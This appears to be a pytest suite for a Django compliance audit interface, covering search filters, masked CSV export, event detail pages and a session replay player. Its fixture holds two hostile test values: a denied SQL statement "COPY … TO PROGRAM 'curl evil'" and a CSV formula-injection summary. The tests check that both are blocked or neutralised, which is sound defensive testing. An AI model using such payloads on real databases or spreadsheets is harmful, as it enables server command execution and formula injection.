"""The compliance UI (issue 16): audit search for people, the CSV of a search, one event in full, and the
replay player with day-long HTTP sessions split at idle gaps.

Events are written with the real recorder into the real control plane; pages are read through the URLconf
(Django's client) and, for what a person does with them, in Debian's Chromium against the real web process
under the site's own Content-Security-Policy.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
import time
from datetime import UTC, datetime, timedelta
from html import unescape
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone
from playwright.sync_api import expect

from audit.models import AuditEvent, ChainLink, EventKind, Outcome
from audit.recorder import Context, event_row
from audit.statement_text import mask_literals
from identity.principal import Principal
from identity.roles import Role
from tests.browsing import browser_context, violations
from tests.factories import make_agent, make_user, user_client

pytestmark = pytest.mark.usefixtures("services")

_serial = itertools.count(1)
PHONE = {"width": 390, "height": 844}
DESKTOP = {"width": 1280, "height": 800}


def client_for(user: Any | None) -> Client:
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


def write_event(kind: EventKind, principal: Principal, at: datetime | None = None, **fields: Any) -> AuditEvent:
    """One event through the recorder's own row definition; ``at`` backdates it (a replay needs a rhythm)."""
    row = event_row(kind, principal=principal, **fields)
    if at is not None:
        row["occurred_at"] = at
    return AuditEvent.objects.create(**row)


@pytest.fixture
def cast() -> dict[str, Any]:
    """An engineer with a full name and an agent, a compliance officer, and people who may not see the audit."""
    n = next(_serial)
    engineer = make_user(Role.ENGINEER, name="rquill")
    engineer.first_name, engineer.last_name = f"Robin{n}", "Quill"
    engineer.save()
    agent, _ = make_agent(engineer)
    return {
        "engineer": engineer,
        "agent": agent,
        "officer": make_user(Role.COMPLIANCE),
        "reviewer": make_user(Role.REVIEWER),
        "outsider": make_user(),
    }


@pytest.fixture
def worked(cast: dict[str, Any]) -> dict[str, Any]:
    """55 reads by the agent (more than one page of 50), a denied statement and a held one, in one session."""
    principal = Principal.for_agent(cast["agent"])
    context = Context(front="wire", session_id=f"wire:ui-{cast['agent'].pk}", source_address="10.0.0.7")
    start = timezone.now() - timedelta(minutes=10)
    reads = []
    for n in range(55):
        reads.append(
            write_event(
                EventKind.QUERY_SUBMITTED,
                principal,
                at=start + timedelta(seconds=n),
                context=context,
                datasource="clinic",
                statement=f"SELECT full_name FROM patients WHERE ssn = '123-45-{6000 + n}'",
                summary=f"read {n}",
                details={"verdict": "allowed", "relations": ["public.patients"], "statement_id": f"s{n}"},
            )
        )
    denied = write_event(
        EventKind.QUERY_DENIED,
        principal,
        at=start + timedelta(seconds=70),
        context=context,
        outcome=Outcome.DENIED,
        datasource="clinic",
        statement="COPY patients TO PROGRAM 'curl evil'",
        summary='=HYPERLINK("http://evil")',
        details={"verdict": "denied", "reasons": ["COPY TO PROGRAM runs a command on the server"]},
    )
    return {"reads": reads, "denied": denied, "session": context.session_id, "principal": principal}


def page_html(user: Any, url: str, **params: str) -> str:
    response = client_for(user).get(url, params)
    assert response.status_code == 200, (url, response.status_code)
    return response.content.decode()


# --- Filters --------------------------------------------------------------------------------------------------


def test_only_compliance_officers_reach_the_new_pages(cast: dict[str, Any], worked: dict[str, Any]) -> None:
    event = worked["denied"]
    pages = ["/audit/", "/audit/events.csv", f"/audit/events/{event.pk}/", f"/audit/sessions/{worked['session']}/"]
    for role in ("engineer", "reviewer", "outsider"):
        for url in pages:
            assert client_for(cast[role]).get(url).status_code == 403, (role, url)
    for url in pages:
        response = client_for(None).get(url)
        assert response.status_code == 302 and "/accounts/login/" in response["Location"], url
        assert client_for(cast["officer"]).get(url).status_code == 200, url
    assert client_for(cast["officer"]).get("/audit/events/999999999/").status_code == 404


def test_closed_filters_offer_labelled_choices_and_refuse_anything_else(
    cast: dict[str, Any], worked: dict[str, Any]
) -> None:
    officer, agent = cast["officer"], cast["agent"].name
    html = page_html(officer, "/audit/")
    assert '<option value="ticket.approved">Ticket approved</option>' in html
    assert '<option value="ticket">Any: Tickets</option>' in html
    assert '<option value="ssn">Social security number</option>' in html
    assert '<option value="held">Held for approval</option>' in html
    assert '<option value="clinic">clinic</option>' in html

    family = page_html(officer, "/audit/", agent=agent, kind="query")  # a family: every query.* kind
    assert "56 events match" in family
    for field, value, label in (
        ("kind", "ticket.bogus", "Kind"),
        ("phi_type", "SSN", "PHI type"),
        ("decision", "maybe", "Decision"),
        ("datasource", "no-such-source", "Data source"),
        ("tz", "Mars/Olympus", "Time zone"),
        ("since", "yesterday", "From"),
    ):
        bad = page_html(officer, "/audit/", agent=agent, **{field: value})
        assert 'id="search-error"' in bad and f"<strong>{label}</strong>" in bad, field
        assert "No events match" not in bad and "events match" not in bad, field  # an error, not "nothing"
    both = page_html(officer, "/audit/", kind="nope", phi_type="nope")
    assert "<strong>Kind</strong>" in both and "<strong>PHI type</strong>" in both  # every problem at once
    api = user_client(officer)
    assert api.get("/api/v1/audit/events", {"kind": "nope"}).status_code == 400
    assert api.get("/api/v1/audit/events", {"kind": "ticket", "actor": agent}).status_code == 200


def test_people_are_found_by_username_full_name_or_agent_in_any_case(
    cast: dict[str, Any], worked: dict[str, Any]
) -> None:
    officer, engineer, agent = cast["officer"], cast["engineer"], cast["agent"]
    for name in (engineer.username.upper(), f"{engineer.first_name.lower()}  quill", agent.name.upper()):
        html = page_html(officer, "/audit/", actor=name, kind="query.denied")
        assert "1 event matches" in html, name
        assert f'data-event="{worked["denied"].pk}"' in html
    assert "0 events match" in page_html(officer, "/audit/", actor="nobody-at-all", kind="query.denied")


def test_times_are_read_and_shown_in_the_zone_the_page_names(cast: dict[str, Any]) -> None:
    principal = Principal(human=cast["engineer"])
    moment = datetime(2031, 7, 4, 16, 30, tzinfo=UTC)  # 12:30 in New York (EDT)
    event = write_event(EventKind.TOKEN_ISSUED, principal, at=moment, summary="zone probe")
    officer = cast["officer"]
    zoned = {"tz": "America/New_York", "actor": cast["engineer"].username}
    html = page_html(officer, "/audit/", since="2031-07-04T12:30", until="2031-07-04T12:31", **zoned)
    assert "1 event matches" in html and f'data-event="{event.pk}"' in html
    assert "2031-07-04 12:30:00" in html and "<strong>America/New_York</strong>" in html
    assert 'value="2031-07-04T12:30"' in html  # the input keeps what was typed
    in_utc = page_html(officer, "/audit/", since="2031-07-04T12:30", until="2031-07-04T12:31", **{"tz": "UTC"})
    assert f'data-event="{event.pk}"' not in in_utc  # 12:30 UTC is four hours before it


def test_the_officers_own_searches_are_hidden_unless_asked_for(cast: dict[str, Any]) -> None:
    officer = cast["officer"]
    for _ in range(3):
        page_html(officer, "/audit/", kind="audit.searched", actor=officer.username)
    hidden = page_html(officer, "/audit/", kind="audit.searched", actor=officer.username)
    assert "0 events match" in hidden and "Your own audit searches are hidden" in hidden
    shown = page_html(officer, "/audit/", kind="audit.searched", actor=officer.username, own_searches="shown")
    assert "4 events match" in shown  # each page records its search after running it
    other = make_user(Role.COMPLIANCE)  # another officer sees them all
    assert "5 events match" in page_html(other, "/audit/", kind="audit.searched", actor=officer.username)


def shown_ids(html: str) -> list[int]:
    return [int(found) for found in re.findall(r'data-event="(\d+)"', html)]


def link(html: str, element_id: str) -> str:
    """The href of the element with that id (unescaped), or "" when the page has none."""
    found = re.search(rf'id="{element_id}"[^>]*href="([^"]*)"', html)
    return unescape(found.group(1)) if found else ""


def test_pages_go_both_ways_keeping_the_filters(cast: dict[str, Any], worked: dict[str, Any]) -> None:
    officer = cast["officer"]
    filters = {"actor": cast["agent"].name, "kind": "query.submitted", "decision": "allowed"}
    first = page_html(officer, "/audit/", **filters)
    newest = sorted((event.pk for event in worked["reads"]), reverse=True)[:50]
    assert shown_ids(first) == newest and link(first, "newer") == ""
    older_url = link(first, "older")
    assert "kind=query.submitted" in older_url and "decision=allowed" in older_url
    older = page_html(officer, f"/audit/{older_url}")
    assert shown_ids(older) == [event.pk for event in worked["reads"][:5]][::-1]
    assert link(older, "older") == ""
    newer = page_html(officer, f"/audit/{link(older, 'newer')}")
    assert shown_ids(newer) == newest  # back where it started, no gap or repeat
    assert link(newer, "newer") == ""


def test_the_csv_holds_every_page_masked_and_safe_to_open(cast: dict[str, Any], worked: dict[str, Any]) -> None:
    officer = cast["officer"]
    response = client_for(officer).get("/audit/events.csv", {"actor": cast["agent"].name})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="audit-events-')
    rows = list(csv.DictReader(io.StringIO(b"".join(response).decode())))  # type: ignore[arg-type]
    assert len(rows) == 56 and [int(row["id"]) for row in rows] == sorted((int(r["id"]) for r in rows), reverse=True)
    assert "123-45-6" not in str(rows)  # the literals stay masked, as on the page
    assert rows[0]["statement_masked"] == mask_literals(worked["denied"].statement)
    assert rows[0]["summary"].startswith("'=HYPERLINK")  # a formula is text when the file is opened
    assert rows[0]["kind_label"] == "Statement denied by policy" and rows[0]["decision"] == "denied"
    recorded = AuditEvent.objects.filter(kind=EventKind.AUDIT_SEARCHED, actor=officer).order_by("-id").first()
    assert recorded is not None and recorded.details["shown_as"] == "csv"
    bad = client_for(officer).get("/audit/events.csv", {"kind": "ticket.bogus"})
    assert bad.status_code == 400 and b"Kind" in bad.content


# --- One event ------------------------------------------------------------------------------------------------


def test_the_event_page_shows_every_field_its_chain_position_and_its_relatives(
    cast: dict[str, Any], worked: dict[str, Any]
) -> None:
    from audit.chain import extend_chain

    principal = worked["principal"]
    submitted = write_event(
        EventKind.QUERY_SUBMITTED,
        principal,
        context=Context(front="http", session_id=f"http:detail-{cast['agent'].pk}", source_address="10.1.2.3"),
        datasource="clinic",
        statement="SELECT ssn FROM patients WHERE id = $1 AND note = 'secret-literal'",
        summary="a read",
        details={
            "verdict": "allowed",
            "relations": ["public.patients"],
            "params_shown": [{"position": 1, "type": "int4", "type_declared": True, "value": "2", "format": "text"}],
        },
        ticket_id=None,
    )
    executed = write_event(
        EventKind.QUERY_EXECUTED,
        principal,
        context=Context(front="http", session_id=submitted.session_id),
        datasource="clinic",
        details={
            "submitted_event": submitted.pk,
            "rowcount": 1,
            "masking": {"ssn": {"phi_type": "ssn", "mask": "partial"}},
            "phi_types": ["ssn"],
        },
    )
    deadline = time.monotonic() + 30  # the chain takes events once every older transaction has finished
    while not ChainLink.objects.filter(event=submitted).exists():
        assert time.monotonic() < deadline, "the event was never chained"
        extend_chain(wait=30)
        time.sleep(0.2)
    link = ChainLink.objects.get(event=submitted)
    html = page_html(cast["officer"], f"/audit/events/{submitted.pk}/")
    for text in ("Statement submitted and classified", "Accountable person", cast["engineer"].username, "10.1.2.3"):
        assert text in html, text
    assert "secret-literal" not in html and "Reveal literals" in html
    assert "<code>$1</code>" in html and "int4" in html
    assert f"<dd>{link.seq}</dd>" in html and bytes(link.row_hash).hex() in html
    assert f'href="/audit/events/{executed.pk}/"' in html  # its outcome
    assert f"/audit/sessions/{submitted.session_id}/?event={submitted.pk}" in html
    outcome = page_html(cast["officer"], f"/audit/events/{executed.pk}/")
    assert "ssn" in outcome and "partial" in outcome and f'href="/audit/events/{submitted.pk}/"' in outcome
    viewed = AuditEvent.objects.filter(kind=EventKind.AUDIT_VIEWED, actor=cast["officer"]).order_by("-id").first()
    assert viewed is not None and viewed.details == {"event": executed.pk}
    assert viewed.summary == f"audit event {executed.pk} viewed"
    assert not AuditEvent.objects.filter(kind=EventKind.AUDIT_SEARCHED, actor=cast["officer"]).exists()
    mine = {"kind": "audit.viewed", "actor": cast["officer"].username}
    search = page_html(cast["officer"], "/audit/", own_searches="shown", **mine)
    assert '<option value="audit.viewed" selected>Audit event viewed</option>' in search
    assert "2 events match" in search
    assert "0 events match" in page_html(cast["officer"], "/audit/", **mine)  # own look-ups hidden by default


# --- Replay ---------------------------------------------------------------------------------------------------


def test_a_day_of_http_calls_is_split_at_idle_gaps(cast: dict[str, Any]) -> None:
    principal = Principal.for_agent(cast["agent"])
    session = f"http:agent-{cast['agent'].pk}:20310102"
    morning = datetime(2031, 1, 2, 9, 0, tzinfo=UTC)
    minutes = [0, 5, 12, 60, 61, 62, 63, 200]  # idle 48 minutes, then 137: three stretches of work
    events = [
        write_event(
            EventKind.QUERY_SUBMITTED,
            principal,
            at=morning + timedelta(minutes=minute),
            context=Context(front="http", session_id=session),
            statement=f"SELECT {minute}",
        )
        for minute in minutes
    ]
    officer = cast["officer"]

    def parts(html: str) -> list[int]:
        return [int(n) for n in re.findall(r'<span class="muted">(\d+) events?</span>', html)]

    def steps(html: str) -> int:
        return html.count('<li class="step')

    first = page_html(officer, f"/audit/sessions/{session}/")
    assert parts(first) == [3, 4, 1] and steps(first) == 3
    assert "09:00\u201309:12" in first and "more than 30 minutes" in first
    second = page_html(officer, f"/audit/sessions/{session}/", event=str(events[4].pk))
    assert steps(second) == 4 and 'class="step target"' in second
    assert re.search(r'href="\?part=2"\s+aria-current="page"', second)
    assert parts(page_html(officer, f"/audit/sessions/{session}/", gap="60")) == [7, 1]
    bad = page_html(officer, f"/audit/sessions/{session}/", part="9", gap="7")
    assert 'id="page-error"' in bad and "<strong>Part</strong>" in bad and "<strong>Idle gap</strong>" in bad
    named = f"http:task-{cast['agent'].pk}"  # a client-named session is the client's grouping: never split
    for minute in (0, 300):
        write_event(
            EventKind.QUERY_SUBMITTED,
            principal,
            at=morning + timedelta(minutes=minute),
            context=Context(front="http", session_id=named),
        )
    whole = page_html(officer, f"/audit/sessions/{named}/")
    assert steps(whole) == 2 and 'id="session-parts"' not in whole


# --- In the browser -------------------------------------------------------------------------------------------


def _no_overflow(page: Any) -> None:
    width = page.evaluate("document.scrollingElement.scrollWidth")
    assert width <= page.viewport_size["width"], f"{page.url}: {width} px wide"


def _shoot(page: Any, directory: Path, name: str) -> None:
    page.screenshot(path=str(directory / f"{name}.png"), full_page=False)


def test_search_in_a_browser_filters_counts_pages_both_ways_and_downloads_csv(
    chromium: Any, web: Any, cast: dict[str, Any], worked: dict[str, Any], tmp_path: Path
) -> None:
    context = browser_context(chromium, web.url, cast["officer"], viewport=DESKTOP, accept_downloads=True)
    try:
        page = context.new_page()
        page.goto(f"{web.url}/audit/")
        page.fill("#f-actor", cast["engineer"].first_name.upper() + " QUILL")  # full name, other case
        page.select_option("#f-kind", label="Statement submitted and classified")
        page.select_option("#f-decision", label="Allowed")
        page.click("#audit-search button[type=submit]")
        expect(page.locator("#result-count")).to_contain_text("55 events match")
        rows = page.locator("#audit-events tr.event")
        expect(rows).to_have_count(50)
        assert "Statement submitted and classified" in rows.first.inner_text()
        assert "123-45-6" not in page.content()
        _shoot(page, tmp_path, "search-1280")
        _no_overflow(page)
        page.click("#older")
        expect(rows).to_have_count(5)
        expect(page.locator("#f-kind")).to_have_value("query.submitted")  # the filters came along
        expect(page.locator("#f-decision")).to_have_value("allowed")
        expect(page.locator("#older")).to_have_count(0)
        page.click("#newer")
        expect(rows).to_have_count(50)
        expect(page.locator("#newer")).to_have_count(0)
        assert rows.first.get_attribute("data-event") == str(worked["reads"][-1].pk)
        with page.expect_download() as download_info:
            page.click("#csv-download")
        download = download_info.value
        saved = tmp_path / download.suggested_filename
        download.save_as(saved)
        lines = list(csv.DictReader(saved.open(newline="")))
        assert len(lines) == 55 and {line["kind"] for line in lines} == {"query.submitted"}
        assert "123-45-6" not in saved.read_text()
        page.set_viewport_size(PHONE)
        page.reload()
        _shoot(page, tmp_path, "search-390")
        _no_overflow(page)
        page.goto(f"{web.url}/audit/?kind=ticket.bogus&phi_type=SSN")
        expect(page.locator("#search-error")).to_contain_text("Kind")
        expect(page.locator("#search-error")).to_be_in_viewport()  # above the form, not under it
        expect(page.locator("#f-kind")).to_have_value("ticket.bogus")  # the form shows what was asked for
        expect(page.locator("#f-kind")).to_have_attribute("aria-invalid", "true")
        _shoot(page, tmp_path, "search-error-390")
        _no_overflow(page)
        assert violations(page) == []
    finally:
        context.close()


def test_the_event_page_in_a_browser(
    chromium: Any, web: Any, cast: dict[str, Any], worked: dict[str, Any], tmp_path: Path
) -> None:
    context = browser_context(chromium, web.url, cast["officer"], viewport=DESKTOP)
    try:
        page = context.new_page()
        page.goto(f"{web.url}/audit/?kind=query.denied&agent={cast['agent'].name}")
        page.locator("#audit-events tr.event a", has_text="details").first.click()
        expect(page.locator("h1")).to_contain_text(f"Audit event #{worked['denied'].pk}")
        expect(page.locator("#event-fields")).to_contain_text("COPY TO PROGRAM runs a command")
        expect(page.locator("#event-statement")).to_contain_text("COPY patients TO PROGRAM '…'")
        _shoot(page, tmp_path, "event-1280")
        _no_overflow(page)
        page.select_option("#f-tz", "America/Los_Angeles")
        page.click(".zone-form button")
        expect(page.locator("#event-fields")).to_contain_text("America/Los_Angeles")
        page.set_viewport_size(PHONE)
        page.reload()
        _shoot(page, tmp_path, "event-390")
        _no_overflow(page)
        page.click("#replay-link")
        expect(page.locator("#timeline .step.target")).to_have_count(1)
        assert violations(page) == []
    finally:
        context.close()


def test_the_replay_player_follows_pauses_and_changes_speed(
    chromium: Any, web: Any, cast: dict[str, Any], tmp_path: Path
) -> None:
    principal = Principal.for_agent(cast["agent"])
    session = f"wire:player-{cast['agent'].pk}"
    start = timezone.now() - timedelta(minutes=5)
    for n in range(24):  # a second apart: at 1x a step every second, long enough to see a pause hold
        write_event(
            EventKind.QUERY_SUBMITTED,
            principal,
            at=start + timedelta(seconds=n),
            context=Context(front="wire", session_id=session),
            statement=f"SELECT {n} AS step_{n}",
            details={"verdict": "allowed", "params": [str(n), None]},
        )
    context = browser_context(chromium, web.url, cast["officer"], viewport=DESKTOP)
    try:
        page = context.new_page()
        page.goto(f"{web.url}/audit/sessions/{session}/")
        steps = page.locator("#timeline .step")
        expect(steps).to_have_count(24)
        assert "+0 ms" not in page.content() and "UTC" in steps.first.locator("time.at").inner_text()
        expect(steps.first.locator("table.params")).to_contain_text("NULL")  # the parameters, shown
        position = page.locator("#replay-position")
        current = page.locator("#timeline .step.current")

        page.click("#replay-step")
        expect(position).to_have_text(f"step 1 of 24 · {steps.first.locator('time.at').inner_text()}")
        expect(page.locator("#timeline .step:visible")).to_have_count(1)

        def shown_step() -> int:
            return int(position.inner_text().split()[1])

        page.click("#replay-play")  # 1x: a step a second, on the session's own clock
        expect(page.locator("#replay-play")).to_have_text("Pause")
        page.wait_for_timeout(2_500)
        page.click("#replay-play")  # pause
        expect(page.locator("#replay-play")).to_have_text("Play")
        paused_at = shown_step()
        assert 2 <= paused_at <= 5, paused_at
        page.wait_for_timeout(1_600)
        assert shown_step() == paused_at, "the player moved while paused"
        page.click("#replay-step")
        expect(position).to_contain_text(f"step {paused_at + 1} of 24")
        expect(current).to_have_count(1)

        page.select_option("#replay-speed", "4")  # a step every quarter second
        page.click("#replay-play")
        page.wait_for_timeout(1_500)
        page.click("#replay-play")
        assert shown_step() - (paused_at + 1) >= 4, "4x was not faster than 1x"
        page.set_viewport_size({"width": 1280, "height": 500})
        page.select_option("#replay-speed", "instant")
        page.click("#replay-play")
        expect(position).to_contain_text("step 24 of 24", timeout=5_000)
        expect(current).to_have_count(1)
        expect(current).to_contain_text("SELECT '…' AS step_23")
        expect(current).to_be_in_viewport()  # the player scrolled to the step it is on
        expect(page.locator("#replay-play")).to_have_text("Play again")
        page.set_viewport_size(DESKTOP)
        _shoot(page, tmp_path, "replay-1280")
        _no_overflow(page)
        page.set_viewport_size(PHONE)
        page.click("#replay-all")
        expect(page.locator("#timeline .step:visible")).to_have_count(24)
        _shoot(page, tmp_path, "replay-390")
        _no_overflow(page)
        assert violations(page) == []
    finally:
        context.close()
